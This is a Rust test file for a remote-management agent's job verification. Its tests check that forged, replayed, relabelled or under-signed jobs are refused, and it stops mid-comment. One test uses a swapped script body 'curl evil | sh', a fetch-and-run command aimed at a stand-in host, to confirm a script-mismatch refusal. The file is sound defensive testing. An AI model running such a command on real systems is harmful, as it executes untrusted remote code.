//! Each test plays one attack against the agent's verification and names it.
//! The fixture: tenant `acme`, root 2-of-3 (two MSP officers, one customer
//! key), operators alice and bob (MSP) and carol (customer).

use std::cell::RefCell;
use std::collections::HashSet;

use bulwark_policy::freeze::{FreezeState, FreezeStatement};
use bulwark_policy::job::{
    AgentContext, Interpreter, JobAction, JobHistory, JobStatement, JobTarget, verify_job,
};
use bulwark_policy::policy::{
    ActionClass, MaintenanceWindow, OperatorKey, Policy, Quorum, ScriptHash,
};
use bulwark_policy::root::{Holder, RootKey, TrustRoot, root_fingerprint};
use bulwark_policy::{
    AgentRefusalCode, Limits, PublicKey, Refusal, Signed, TrustHistory, TrustKind, TrustOutcome,
};
use ed25519_dalek::SigningKey;
use sha2::{Digest, Sha256};

const NOW: u64 = 1_800_000_000; // a Friday, 08:00 UTC
const DEVICE: &str = "6f1c2a3b-0000-4000-8000-000000000001";
const OTHER_DEVICE: &str = "6f1c2a3b-0000-4000-8000-000000000002";
const SCRIPT: &[u8] = b"#!/bin/sh\nuptime\n";
const HOST: &str = "ws-042";
const DEVICE_KEY: [u8; 32] = [0x42; 32];

fn key(seed: u8) -> SigningKey {
    SigningKey::from_bytes(&[seed; 32])
}

fn public(k: &SigningKey) -> PublicKey {
    PublicKey::Ed25519(k.verifying_key().to_bytes())
}

struct Keys {
    root_a: SigningKey,
    root_b: SigningKey,
    root_customer: SigningKey,
    alice: SigningKey,
    bob: SigningKey,
    carol: SigningKey,
    mallory: SigningKey,
}

fn keys() -> Keys {
    Keys {
        root_a: key(1),
        root_b: key(2),
        root_customer: key(3),
        alice: key(10),
        bob: key(11),
        carol: key(12),
        mallory: key(66),
    }
}

fn root(k: &Keys) -> TrustRoot {
    TrustRoot {
        tenant: "acme".into(),
        version: 1,
        threshold: 2,
        keys: vec![
            RootKey {
                key: public(&k.root_a),
                holder: Holder::Msp,
                name: "MSP officer A".into(),
            },
            RootKey {
                key: public(&k.root_b),
                holder: Holder::Msp,
                name: "MSP officer B".into(),
            },
            RootKey {
                key: public(&k.root_customer),
                holder: Holder::Customer,
                name: "Customer CISO".into(),
            },
        ],
    }
}

fn quorum(class: ActionClass, signers: u32) -> Quorum {
    Quorum {
        class,
        signers,
        customer_required: false,
        in_window_only: false,
    }
}

fn policy(k: &Keys, version: u64) -> Policy {
    use ActionClass::*;
    let all = vec![
        InventoryRefresh,
        RunAllowListedScript,
        RunScript,
        InstallPatches,
        OpenAdminShell,
    ];
    Policy {
        tenant: "acme".into(),
        version,
        expires_at: NOW + 30 * 86_400,
        operators: vec![
            OperatorKey {
                key: public(&k.alice),
                name: "alice".into(),
                holder: Holder::Msp,
                classes: all.clone(),
            },
            OperatorKey {
                key: public(&k.bob),
                name: "bob".into(),
                holder: Holder::Msp,
                classes: all.clone(),
            },
            OperatorKey {
                key: public(&k.carol),
                name: "carol".into(),
                holder: Holder::Customer,
                classes: all,
            },
        ],
        quorums: vec![
            quorum(InventoryRefresh, 1),
            quorum(RunAllowListedScript, 1),
            quorum(RunScript, 2),
            Quorum {
                class: InstallPatches,
                signers: 1,
                customer_required: false,
                in_window_only: true,
            },
            Quorum {
                class: OpenAdminShell,
                signers: 2,
                customer_required: true,
                in_window_only: false,
            },
        ],
        fan_out_limit: 10,
        allowed_scripts: vec![ScriptHash(
            Sha256::digest(b"#!/bin/sh\nsystemctl restart app\n").into(),
        )],
        // Saturdays 22:00 UTC for four hours (past midnight into Sunday).
        maintenance_windows: vec![MaintenanceWindow {
            weekdays: 1 << 5,
            start_minute: 22 * 60,
            duration_minutes: 240,
        }],
        tenant_name: Some("Acme".into()),
        witnessing: None,
        mass_action_delay: None,
        checks: None,
        revoked_schedules: None,
        device_groups: None,
        shell_notice: None,
    }
}

/// The payload a class is: a script for the two script classes.
fn action(class: ActionClass, script: &[u8]) -> JobAction {
    match class {
        ActionClass::InventoryRefresh => JobAction::InventoryRefresh,
        ActionClass::RunScript | ActionClass::RunAllowListedScript => JobAction::RunScript {
            interpreter: Interpreter::Sh,
            script_sha256: ScriptHash(Sha256::digest(script).into()),
        },
        ActionClass::InstallPatches => JobAction::InstallPatches {
            packages: Vec::new(),
        },
        ActionClass::OpenShell => JobAction::OpenShell,
        ActionClass::OpenAdminShell => JobAction::OpenAdminShell,
        ActionClass::ChangeAgentSettings => JobAction::ChangeAgentSettings {
            settings: Vec::new(),
        },
        ActionClass::UpdateAgent => JobAction::UpdateAgent {
            version: "0.2.0".into(),
            binary_sha256: [1; 32],
        },
        ActionClass::RestoreBackup => JobAction::RestoreBackup {
            snapshot: "abc".into(),
            path: "/".into(),
        },
    }
}

fn target(device_id: &str) -> JobTarget {
    JobTarget {
        device_id: device_id.to_owned(),
        hostname: HOST.into(),
        device_key: None,
    }
}

fn job(class: ActionClass, targets: &[&str], script: &[u8]) -> JobStatement {
    JobStatement {
        tenant: "acme".into(),
        job_id: [7; 16],
        targets: targets.iter().map(|t| target(t)).collect(),
        class,
        action: action(class, script),
        not_before: NOW - 60,
        expires_at: NOW + 3600,
        nonce: [9; 16],
        reason: "ticket 4711".into(),
        timeout_secs: 300,
        tenant_name: "Acme".into(),
    }
}

/// The body that travels with a job: the script for a script action, none otherwise.
fn body<'a>(envelope: &Signed, script: &'a [u8]) -> &'a [u8] {
    match envelope.statement::<JobStatement>(&Limits::default()) {
        Ok(job) if job.action.script_sha256().is_none() => b"",
        _ => script,
    }
}

fn signed<T: bulwark_policy::envelope::Statement>(
    statement: &T,
    signers: &[&SigningKey],
) -> Signed {
    let mut s = Signed::new(statement);
    for k in signers {
        s.sign(k);
    }
    s
}

#[derive(Default)]
struct History(RefCell<HashSet<[u8; 16]>>);

impl JobHistory for History {
    fn seen(&self, job_id: &[u8; 16], nonce: &[u8; 16]) -> bool {
        let seen = self.0.borrow();
        seen.contains(job_id) || seen.contains(nonce)
    }
}

impl History {
    fn record(&self, job: &JobStatement) {
        self.0.borrow_mut().insert(job.job_id);
        self.0.borrow_mut().insert(job.nonce);
    }
}

fn agent(policy: &Policy) -> AgentContext<'_> {
    AgentContext {
        tenant: "acme",
        device_id: DEVICE,
        hostname: HOST,
        device_key: &DEVICE_KEY,
        policy,
        freeze: FreezeState::default(),
    }
}

fn check(envelope: &Signed, script: &[u8], policy: &Policy, now: u64) -> Result<(), Refusal> {
    verify_job(
        envelope,
        body(envelope, script),
        agent(policy),
        &History::default(),
        now,
        &Limits::default(),
    )
    .map(|_| ())
}

#[test]
fn an_honest_two_person_job_runs() {
    let k = keys();
    let p = policy(&k, 1);
    let env = signed(
        &job(ActionClass::RunScript, &[DEVICE], SCRIPT),
        &[&k.alice, &k.bob],
    );
    let verified = verify_job(
        &env,
        SCRIPT,
        agent(&p),
        &History::default(),
        NOW,
        &Limits::default(),
    )
    .expect("runs");
    assert_eq!(verified.signers.len(), 2);
}

#[test]
fn server_inserted_job_without_signatures() {
    let k = keys();
    let p = policy(&k, 1);
    let env = signed(&job(ActionClass::InventoryRefresh, &[DEVICE], SCRIPT), &[]);
    assert_eq!(
        check(&env, SCRIPT, &p, NOW),
        Err(Refusal::TooFewSigners { have: 0, need: 1 })
    );
}

#[test]
fn server_signs_with_a_key_of_its_own() {
    let k = keys();
    let p = policy(&k, 1);
    let env = signed(
        &job(ActionClass::InventoryRefresh, &[DEVICE], SCRIPT),
        &[&k.mallory],
    );
    assert_eq!(check(&env, SCRIPT, &p, NOW), Err(Refusal::UnknownKey));
}

#[test]
fn one_compromised_operator_runs_a_two_person_class() {
    let k = keys();
    let p = policy(&k, 1);
    let env = signed(&job(ActionClass::RunScript, &[DEVICE], SCRIPT), &[&k.alice]);
    assert_eq!(
        check(&env, SCRIPT, &p, NOW),
        Err(Refusal::TooFewSigners { have: 1, need: 2 })
    );
}

#[test]
fn duplicate_signatures_by_one_key() {
    let k = keys();
    let p = policy(&k, 1);
    let env = signed(
        &job(ActionClass::RunScript, &[DEVICE], SCRIPT),
        &[&k.alice, &k.alice, &k.alice],
    );
    assert_eq!(
        check(&env, SCRIPT, &p, NOW),
        Err(Refusal::TooFewSigners { have: 1, need: 2 })
    );
}

#[test]
fn a_signature_copied_under_another_key_id() {
    let k = keys();
    let p = policy(&k, 1);
    let mut env = signed(&job(ActionClass::RunScript, &[DEVICE], SCRIPT), &[&k.alice]);
    let mut copy = env.signatures[0].clone();
    copy.key_id = public(&k.bob).id();
    env.signatures.push(copy);
    assert_eq!(check(&env, SCRIPT, &p, NOW), Err(Refusal::BadSignature));
}

#[test]
fn fan_out_beyond_the_limit_needs_one_more_signer() {
    let k = keys();
    let p = policy(&k, 1);
    let ids: Vec<String> = (0..11)
        .map(|i| format!("6f1c2a3b-0000-4000-8000-0000000001{i:02}"))
        .collect();
    let mut targets: Vec<&str> = ids.iter().map(String::as_str).collect();
    targets.push(DEVICE);
    let one = signed(
        &job(ActionClass::InventoryRefresh, &targets, SCRIPT),
        &[&k.alice],
    );
    assert_eq!(
        check(&one, SCRIPT, &p, NOW),
        Err(Refusal::TooFewSigners { have: 1, need: 2 })
    );
    let two = signed(
        &job(ActionClass::InventoryRefresh, &targets, SCRIPT),
        &[&k.alice, &k.bob],
    );
    assert_eq!(check(&two, SCRIPT, &p, NOW), Ok(()));
    // A target list padded with duplicates is malformed (each device is
    // named once, with what it was chosen by).
    let padded = signed(
        &job(
            ActionClass::InventoryRefresh,
            &[DEVICE, DEVICE, DEVICE],
            SCRIPT,
        ),
        &[&k.alice],
    );
    assert!(matches!(
        check(&padded, SCRIPT, &p, NOW),
        Err(Refusal::Malformed(_))
    ));
}

#[test]
fn replayed_job() {
    let k = keys();
    let p = policy(&k, 1);
    let statement = job(ActionClass::InventoryRefresh, &[DEVICE], SCRIPT);
    let env = signed(&statement, &[&k.alice]);
    let history = History::default();
    verify_job(&env, b"", agent(&p), &history, NOW, &Limits::default()).expect("first run");
    history.record(&statement);
    assert_eq!(
        verify_job(&env, b"", agent(&p), &history, NOW, &Limits::default()).map(|_| ()),
        Err(Refusal::Replayed)
    );
    // A fresh job id with the same nonce is a replay too.
    let mut again = statement.clone();
    again.job_id = [8; 16];
    let env = signed(&again, &[&k.alice]);
    assert_eq!(
        verify_job(&env, b"", agent(&p), &history, NOW, &Limits::default()).map(|_| ()),
        Err(Refusal::Replayed)
    );
}

#[test]
fn cross_tenant_job() {
    let k = keys();
    let p = policy(&k, 1);
    let mut statement = job(ActionClass::InventoryRefresh, &[DEVICE], SCRIPT);
    statement.tenant = "globex".into();
    let env = signed(&statement, &[&k.alice]);
    assert_eq!(check(&env, SCRIPT, &p, NOW), Err(Refusal::WrongTenant));
}

#[test]
fn job_for_another_device() {
    let k = keys();
    let p = policy(&k, 1);
    let env = signed(
        &job(ActionClass::InventoryRefresh, &[OTHER_DEVICE], SCRIPT),
        &[&k.alice],
    );
    assert_eq!(check(&env, SCRIPT, &p, NOW), Err(Refusal::NotATarget));
}

#[test]
fn swapped_script_body() {
    let k = keys();
    let p = policy(&k, 1);
    let env = signed(
        &job(ActionClass::RunScript, &[DEVICE], SCRIPT),
        &[&k.alice, &k.bob],
    );
    assert_eq!(
        check(&env, b"#!/bin/sh\ncurl evil | sh\n", &p, NOW),
        Err(Refusal::ScriptMismatch)
    );
}

#[test]
fn edited_statement_after_signing() {
    let k = keys();
    let p = policy(&k, 1);
    let mut env = signed(
        &job(ActionClass::RunScript, &[DEVICE], SCRIPT),
        &[&k.alice, &k.bob],
    );
    let mut edited = job(ActionClass::RunScript, &[DEVICE], SCRIPT);
    edited.expires_at += 86_400;
    env.payload = bulwark_protocol::codec::to_canonical(&edited);
    assert_eq!(check(&env, SCRIPT, &p, NOW), Err(Refusal::BadSignature));
}

#[test]
fn revoked_operator_key() {
    let k = keys();
    let mut p = policy(&k, 2);
    p.operators.retain(|o| o.name != "bob");
    let env = signed(
        &job(ActionClass::RunScript, &[DEVICE], SCRIPT),
        &[&k.alice, &k.bob],
    );
    assert_eq!(
        check(&env, SCRIPT, &p, NOW),
        Err(Refusal::TooFewSigners { have: 1, need: 2 })
    );
}

#[test]
fn expired_or_premature_or_overlong_job() {
    let k = keys();
    let p = policy(&k, 1);
    let env = signed(
        &job(ActionClass::InventoryRefresh, &[DEVICE], SCRIPT),
        &[&k.alice],
    );
    assert_eq!(check(&env, SCRIPT, &p, NOW + 3600), Err(Refusal::Expired));
    assert_eq!(check(&env, SCRIPT, &p, NOW - 61), Err(Refusal::NotYetValid));
    let mut long = job(ActionClass::InventoryRefresh, &[DEVICE], SCRIPT);
    long.expires_at = long.not_before + 8 * 86_400;
    let env = signed(&long, &[&k.alice]);
    assert_eq!(check(&env, SCRIPT, &p, NOW), Err(Refusal::ValidityTooLong));
}

#[test]
fn admin_shell_without_the_customer() {
    let k = keys();
    let p = policy(&k, 1);
    let msp_only = signed(
        &job(ActionClass::OpenAdminShell, &[DEVICE], SCRIPT),
        &[&k.alice, &k.bob],
    );
    assert_eq!(
        check(&msp_only, SCRIPT, &p, NOW),
        Err(Refusal::MissingCustomerCosigner)
    );
    let with_customer = signed(
        &job(ActionClass::OpenAdminShell, &[DEVICE], SCRIPT),
        &[&k.alice, &k.carol],
    );
    assert_eq!(check(&with_customer, SCRIPT, &p, NOW), Ok(()));
}

#[test]
fn patches_outside_the_maintenance_window() {
    let k = keys();
    let p = policy(&k, 1);
    let env = signed(
        &job(ActionClass::InstallPatches, &[DEVICE], SCRIPT),
        &[&k.alice],
    );
    assert_eq!(
        check(&env, SCRIPT, &p, NOW),
        Err(Refusal::OutsideMaintenanceWindow)
    );
    // Saturday 23:00 and Sunday 01:30 are inside (the window runs past midnight).
    let saturday_2300 = NOW + 86_400 + 15 * 3600;
    let sunday_0130 = NOW + 2 * 86_400 - 8 * 3600 + 5400;
    let sunday_0230 = sunday_0130 + 3600;
    let mut late = job(ActionClass::InstallPatches, &[DEVICE], SCRIPT);
    late.not_before = saturday_2300 - 60;
    late.expires_at = sunday_0130 + 60;
    let env = signed(&late, &[&k.alice]);
    assert_eq!(check(&env, SCRIPT, &p, saturday_2300), Ok(()));
    assert_eq!(check(&env, SCRIPT, &p, sunday_0130), Ok(()));
    late.expires_at = sunday_0230 + 60;
    let env = signed(&late, &[&k.alice]);
    assert_eq!(
        check(&env, SCRIPT, &p, sunday_0230),
        Err(Refusal::OutsideMaintenanceWindow),
        "closed at 02:00"
    );
}

#[test]
fn allow_listed_class_with_an_unlisted_script() {
    let k = keys();
    let p = policy(&k, 1);
    let env = signed(
        &job(ActionClass::RunAllowListedScript, &[DEVICE], SCRIPT),
        &[&k.alice],
    );
    assert_eq!(
        check(&env, SCRIPT, &p, NOW),
        Err(Refusal::ScriptNotAllowListed)
    );
    let listed = b"#!/bin/sh\nsystemctl restart app\n";
    let env = signed(
        &job(ActionClass::RunAllowListedScript, &[DEVICE], listed),
        &[&k.alice],
    );
    assert_eq!(check(&env, listed, &p, NOW), Ok(()));
}

#[test]
fn class_the_policy_does_not_permit() {
    let k = keys();
    let p = policy(&k, 1);
    let env = signed(
        &job(ActionClass::RestoreBackup, &[DEVICE], SCRIPT),
        &[&k.alice, &k.bob, &k.carol],
    );
    assert_eq!(
        check(&env, SCRIPT, &p, NOW),
        Err(Refusal::ClassNotPermitted)
    );
}

#[test]
fn policy_envelope_presented_as_a_job() {
    let k = keys();
    let p = policy(&k, 1);
    let env = signed(&p, &[&k.alice]);
    assert!(matches!(
        check(&env, SCRIPT, &p, NOW),
        Err(Refusal::Malformed(_))
    ));
}

#[test]
fn frozen_tenant_and_the_kill_switch() {
    let k = keys();
    let r = root(&k);
    let p = policy(&k, 1);
    let limits = Limits::default();
    let freeze = |seq, frozen| FreezeStatement {
        tenant: "acme".into(),
        sequence: seq,
        frozen,
        reason: "incident".into(),
    };

    // The customer alone freezes.
    let state = FreezeState::default()
        .apply(&r, &signed(&freeze(1, true), &[&k.root_customer]), &limits)
        .expect("freeze");
    assert!(state.frozen);
    let env = signed(
        &job(ActionClass::InventoryRefresh, &[DEVICE], SCRIPT),
        &[&k.alice],
    );
    let frozen = AgentContext {
        freeze: state,
        ..agent(&p)
    };
    assert_eq!(
        verify_job(&env, SCRIPT, frozen, &History::default(), NOW, &limits).map(|_| ()),
        Err(Refusal::Frozen)
    );
    // An MSP officer alone can neither freeze nor unfreeze; the customer alone cannot unfreeze.
    assert_eq!(
        FreezeState::default().apply(&r, &signed(&freeze(1, true), &[&k.root_a]), &limits),
        Err(Refusal::RootThresholdNotMet)
    );
    assert_eq!(
        state.apply(&r, &signed(&freeze(2, false), &[&k.root_customer]), &limits),
        Err(Refusal::RootThresholdNotMet)
    );
    assert_eq!(
        state.apply(
            &r,
            &signed(&freeze(2, false), &[&k.root_a, &k.root_a]),
            &limits
        ),
        Err(Refusal::RootThresholdNotMet)
    );
    // The root threshold unfreezes.
    let thawed = state
        .apply(
            &r,
            &signed(&freeze(2, false), &[&k.root_a, &k.root_b]),
            &limits,
        )
        .expect("unfreeze");
    assert!(!thawed.frozen);
    // An old unfreeze replayed after a new freeze does nothing.
    let refrozen = thawed
        .apply(&r, &signed(&freeze(3, true), &[&k.root_customer]), &limits)
        .expect("freeze again");
    assert_eq!(
        refrozen.apply(
            &r,
            &signed(&freeze(2, false), &[&k.root_a, &k.root_b]),
            &limits
        ),
        Err(Refusal::Rollback {
            what: "freeze sequence",
            accepted: 3,
            offered: 2
        })
    );
}

#[test]
fn policy_rollback_and_underthreshold_policies() {
    let k = keys();
    let r = root(&k);
    let limits = Limits::default();
    let v2 = Policy::verify_update(
        &r,
        None,
        &signed(&policy(&k, 2), &[&k.root_a, &k.root_b]),
        NOW,
        &limits,
    )
    .expect("v2");
    let v1 = signed(&policy(&k, 1), &[&k.root_a, &k.root_b]);
    assert_eq!(
        Policy::verify_update(&r, Some(&v2), &v1, NOW, &limits),
        Err(Refusal::Rollback {
            what: "policy version",
            accepted: 2,
            offered: 1
        })
    );
    let same = signed(&policy(&k, 2), &[&k.root_a, &k.root_b]);
    assert_eq!(
        Policy::verify_update(&r, Some(&v2), &same, NOW, &limits),
        Err(Refusal::Rollback {
            what: "policy version",
            accepted: 2,
            offered: 2
        })
    );
    let one_key = signed(&policy(&k, 3), &[&k.root_a, &k.root_a]);
    assert_eq!(
        Policy::verify_update(&r, Some(&v2), &one_key, NOW, &limits),
        Err(Refusal::RootThresholdNotMet)
    );
    let by_operators = signed(&policy(&k, 3), &[&k.alice, &k.bob]);
    assert_eq!(
        Policy::verify_update(&r, Some(&v2), &by_operators, NOW, &limits),
        Err(Refusal::RootThresholdNotMet)
    );
    let expired = signed(&policy(&k, 3), &[&k.root_a, &k.root_customer]);
    assert_eq!(
        Policy::verify_update(&r, Some(&v2), &expired, NOW + 31 * 86_400, &limits),
        Err(Refusal::PolicyExpired)
    );
    Policy::verify_update(&r, Some(&v2), &expired, NOW, &limits)
        .expect("v3 with MSP + customer root keys");
}

#[test]
fn root_rotation_needs_both_the_old_and_the_new_threshold() {
    let k = keys();
    let limits = Limits::default();
    let r1 = root(&k);
    let first = signed(&r1, &[&k.root_a, &k.root_b]);
    let pinned = root_fingerprint(&first);
    assert_eq!(
        TrustRoot::verify_pinned(&first, &pinned, "acme", &limits),
        Ok(r1.clone())
    );
    assert_eq!(
        TrustRoot::verify_pinned(&first, &[0; 32], "acme", &limits),
        Err(Refusal::NotPinnedRoot)
    );

    // The attacker's new root, signed only by keys of the new root.
    let attacker = key(99);
    let mut r2 = r1.clone();
    r2.version = 2;
    r2.keys[0] = RootKey {
        key: public(&attacker),
        holder: Holder::Msp,
        name: "new".into(),
    };
    let by_new_only = signed(&r2, &[&attacker, &k.root_b]);
    assert_eq!(
        r1.verify_rotation(&by_new_only, &limits),
        Err(Refusal::RootThresholdNotMet)
    );
    // Old threshold, but the new key never signed: refused too (the new set must consent).
    let r2_threshold_3 = TrustRoot {
        threshold: 3,
        ..r2.clone()
    };
    let old_only = signed(&r2_threshold_3, &[&k.root_a, &k.root_b]);
    assert_eq!(
        r1.verify_rotation(&old_only, &limits),
        Err(Refusal::RootThresholdNotMet)
    );
    // Both thresholds: accepted.
    let both = signed(&r2, &[&k.root_a, &k.root_b, &attacker]);
    assert_eq!(r1.verify_rotation(&both, &limits), Ok(r2.clone()));
    // Skipping a version is refused.
    let r3 = TrustRoot { version: 3, ..r2 };
    assert_eq!(
        r1.verify_rotation(&signed(&r3, &[&k.root_a, &k.root_b, &attacker]), &limits),
        Err(Refusal::Rollback {
            what: "root version",
            accepted: 1,
            offered: 3
        })
    );
}

#[test]
fn envelopes_round_trip_canonically_and_refuse_trailing_bytes() {
    let k = keys();
    let env = signed(
        &job(ActionClass::RunScript, &[DEVICE], SCRIPT),
        &[&k.alice, &k.bob],
    );
    let bytes = env.to_bytes();
    assert_eq!(Signed::from_bytes(&bytes, &Limits::default()), Ok(env));
    let mut longer = bytes.clone();
    longer.push(0);
    assert!(Signed::from_bytes(&longer, &Limits::default()).is_err());
}

/// Drill attack 1 (RFD 0005): a script labelled inventory-refresh to run
/// under that class's quorum of one.
#[test]
fn a_script_relabelled_as_another_class() {
    let k = keys();
    let p = policy(&k, 1);
    let mut relabelled = job(ActionClass::RunScript, &[DEVICE], SCRIPT);
    relabelled.class = ActionClass::InventoryRefresh;
    let env = signed(&relabelled, &[&k.alice]);
    assert_eq!(
        check(&env, SCRIPT, &p, NOW),
        Err(Refusal::ClassMismatch {
            declared: ActionClass::InventoryRefresh,
            derived: ActionClass::RunScript,
        })
    );
    // Every other label on a script is refused the same way.
    for label in ActionClass::ALL {
        if matches!(
            label,
            ActionClass::RunScript | ActionClass::RunAllowListedScript
        ) {
            continue;
        }
        relabelled.class = label;
        let env = signed(&relabelled, &[&k.alice, &k.bob, &k.carol]);
        assert_eq!(
            check(&env, SCRIPT, &p, NOW).map_err(|r| r.code()),
            Err(AgentRefusalCode::ClassMismatch),
            "{label:?}"
        );
    }
    // An allow-listed script labelled run-script is refused too: the class
    // is what the payload is under the policy, whatever the label says.
    let listed = b"#!/bin/sh\nsystemctl restart app\n";
    let env = signed(
        &job(ActionClass::RunScript, &[DEVICE], listed),
        &[&k.alice, &k.bob],
    );
    assert_eq!(
        check(&env, listed, &p, NOW),
        Err(Refusal::ClassMismatch {
            declared: ActionClass::RunScript,
            derived: ActionClass::RunAllowListedScript,
        })
    );
}

#[test]
fn an_action_without_a_script_comes_without_one() {
    let k = keys();
    let p = policy(&k, 1);
    let env = signed(
        &job(ActionClass::InventoryRefresh, &[DEVICE], SCRIPT),
        &[&k.alice],
    );
    assert_eq!(check(&env, b"", &p, NOW), Ok(()));
    let verified = verify_job(
        &env,
        SCRIPT,
        agent(&p),
        &History::default(),
        NOW,
        &Limits::default(),
    );
    assert_eq!(verified.map(|_| ()), Err(Refusal::ScriptMismatch));
}

/// Drill attack 5: the server swaps hostnames (or device ids) so that a
/// job signed for ws-042 reaches another endpoint.
#[test]
fn a_job_for_another_host_under_this_device_id() {
    let k = keys();
    let p = policy(&k, 1);
    let mut statement = job(ActionClass::InventoryRefresh, &[DEVICE], SCRIPT);
    statement.targets[0].hostname = "ws-099".into();
    let env = signed(&statement, &[&k.alice]);
    assert_eq!(
        check(&env, SCRIPT, &p, NOW).map_err(|r| r.code()),
        Err(AgentRefusalCode::TargetMismatch)
    );
    // Host names compare without ASCII case.
    statement.targets[0].hostname = "WS-042".into();
    let env = signed(&statement, &[&k.alice]);
    assert_eq!(check(&env, SCRIPT, &p, NOW), Ok(()));
    // A device key, where the operator's software knew it, must be this device's.
    statement.targets[0].device_key = Some([0x43; 32]);
    let env = signed(&statement, &[&k.alice]);
    assert_eq!(
        check(&env, SCRIPT, &p, NOW).map_err(|r| r.code()),
        Err(AgentRefusalCode::TargetMismatch)
    );
    statement.targets[0].device_key = Some(DEVICE_KEY);
    let env = signed(&statement, &[&k.alice]);
    assert_eq!(check(&env, SCRIPT, &p, NOW), Ok(()));
    // The same device named twice is malformed, not a choice between entries.
    statement.targets.push(JobTarget {
        hostname: "ws-099".into(),
        ..statement.targets[0].clone()
    });
    let env = signed(&statement, &[&k.alice]);
    assert!(matches!(
        check(&env, SCRIPT, &p, NOW),
        Err(Refusal::Malformed(_))
    ));
}

/// A job chosen for tenant "Globex" that a server routed to Acme's id.
#[test]
fn a_job_naming_another_tenant() {
    let k = keys();
    let p = policy(&k, 1);
    let mut statement = job(ActionClass::InventoryRefresh, &[DEVICE], SCRIPT);
    statement.tenant_name = "Globex".into();
    let env = signed(&statement, &[&k.alice]);
    assert_eq!(check(&env, SCRIPT, &p, NOW), Err(Refusal::WrongTenant));
    // A policy signed before names were carries none: only the id is checked.
    let unnamed = Policy {
        tenant_name: None,
        witnessing: None,
        mass_action_delay: None,
        checks: None,
        ..policy(&k, 1)
    };
    assert_eq!(check(&env, SCRIPT, &unnamed, NOW), Ok(()));
}

fn arb_job() -> impl proptest::strategy::Strategy<Value = JobStatement> {
    use proptest::prelude::*;
    (
        "[a-z0-9-]{1,36}",
        any::<[u8; 16]>(),
        proptest::collection::vec("[a-f0-9-]{36}", 1..4),
        0usize..9,
        any::<[u8; 32]>(),
        any::<u64>(),
        any::<u64>(),
        any::<[u8; 16]>(),
        ".{0,64}",
        1u32..86_400,
    )
        .prop_map(
            |(
                tenant,
                job_id,
                targets,
                class,
                hash,
                not_before,
                expires_at,
                nonce,
                reason,
                timeout_secs,
            )| {
                JobStatement {
                    tenant,
                    job_id,
                    targets: targets
                        .iter()
                        .map(|t| JobTarget {
                            device_id: t.clone(),
                            hostname: format!("h-{}", &t[..4]),
                            device_key: (hash[0] % 2 == 0).then_some(hash),
                        })
                        .collect(),
                    class: ActionClass::ALL[class],
                    action: action(ActionClass::ALL[class], &hash),
                    not_before,
                    expires_at,
                    nonce,
                    reason,
                    timeout_secs,
                    tenant_name: "Acme".into(),
                }
            },
        )
}

proptest::proptest! {
    /// Canonical encoding: every statement round-trips, the decoder accepts
    /// exactly the bytes the encoder makes, and changing any byte either
    /// fails to decode or decodes to a different statement whose old
    /// signature no longer verifies.
    #[test]
    fn job_statements_round_trip_canonically_and_flips_break_signatures(
        statement in arb_job(),
        flip in proptest::prelude::any::<proptest::sample::Index>(),
        bit in 0u8..8,
    ) {
        use proptest::prelude::*;
        let alice = key(30);
        let env = signed(&statement, &[&alice]);
        let limits = Limits::default();
        prop_assert_eq!(env.statement::<JobStatement>(&limits), Ok(statement.clone()));
        let bytes = env.to_bytes();
        prop_assert_eq!(Signed::from_bytes(&bytes, &limits), Ok(env.clone()));
        let mut payload = env.payload.clone();
        let i = flip.index(payload.len());
        payload[i] ^= 1 << bit;
        let tampered = Signed { payload, ..env.clone() };
        if let Ok(other) = tampered.statement::<JobStatement>(&limits) {
            prop_assert_ne!(other, statement);
        }
        prop_assert!(tampered.tally([public(&alice)].iter()).valid.is_empty());
    }

    /// Domain separation: a signature over a payload under one payload type
    /// never verifies under another, whatever the payload.
    #[test]
    fn a_signature_never_crosses_payload_types(
        payload in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..256),
        from in 0usize..4,
        to in 0usize..4,
    ) {
        use proptest::prelude::*;
        let types = [
            <JobStatement as bulwark_policy::envelope::Statement>::PAYLOAD_TYPE,
            <Policy as bulwark_policy::envelope::Statement>::PAYLOAD_TYPE,
            <TrustRoot as bulwark_policy::envelope::Statement>::PAYLOAD_TYPE,
            <bulwark_policy::FreezeStatement as bulwark_policy::envelope::Statement>::PAYLOAD_TYPE,
        ];
        prop_assume!(from != to);
        let alice = key(31);
        let mut env = Signed { payload_type: types[from].to_owned(), payload, signatures: Vec::new() };
        env.sign(&alice);
        let moved = Signed { payload_type: types[to].to_owned(), ..env.clone() };
        prop_assert_eq!(env.tally([public(&alice)].iter()).valid.len(), 1);
        prop_assert!(moved.tally([public(&alice)].iter()).valid.is_empty());
    }

    #[test]
    fn tally_counts_at_most_the_distinct_allowed_keys(picks in proptest::collection::vec(0usize..5, 0..12)) {
        let signers: Vec<SigningKey> = (20u8..25).map(key).collect();
        let allowed: Vec<PublicKey> = signers[..3].iter().map(public).collect();
        let statement = job(ActionClass::InventoryRefresh, &[DEVICE], SCRIPT);
        let chosen: Vec<&SigningKey> = picks.iter().map(|i| &signers[*i]).collect();
        let env = signed(&statement, &chosen);
        let tally = env.tally(allowed.iter());
        let expected: HashSet<usize> = picks.iter().copied().filter(|i| *i < 3).collect();
        proptest::prop_assert_eq!(tally.valid.len(), expected.len());
        proptest::prop_assert_eq!(tally.unknown, picks.iter().filter(|i| **i >= 3).count());
        proptest::prop_assert_eq!(tally.bad, 0);
    }
}

proptest::proptest! {
    /// The class an agent applies is a function of the payload alone: a job
    /// whose label differs from [`JobAction::class`] never passes, and one
    /// whose label agrees is never refused for its label.
    #[test]
    fn the_class_comes_from_the_payload(
        kind in 0usize..9,
        label in 0usize..9,
        listed in proptest::prelude::any::<bool>(),
    ) {
        let k = keys();
        let p = policy(&k, 1);
        let script: &[u8] = if listed { b"#!/bin/sh\nsystemctl restart app\n" } else { SCRIPT };
        let mut statement = job(ActionClass::ALL[kind], &[DEVICE], script);
        statement.class = ActionClass::ALL[label];
        let derived = statement.action.class(&p);
        let env = signed(&statement, &[&k.alice, &k.bob, &k.carol]);
        let outcome = verify_job(
            &env,
            body(&env, script),
            agent(&p),
            &History::default(),
            NOW,
            &Limits::default(),
        );
        if statement.class == derived {
            let relabel_refused = matches!(outcome, Err(Refusal::ClassMismatch { .. }));
            proptest::prop_assert!(!relabel_refused);
            if let Ok(verified) = outcome {
                proptest::prop_assert_eq!(verified.class, derived);
            }
        } else {
            let refused = matches!(
                outcome,
                Err(Refusal::ClassMismatch { .. } | Refusal::ScriptNotAllowListed)
            );
            proptest::prop_assert!(refused, "{:?}", outcome);
        }
    }
}

/// The largest job the server accepts (issue 18): `max_targets` devices,
/// each with a device id and host name at the text cap and its key, as
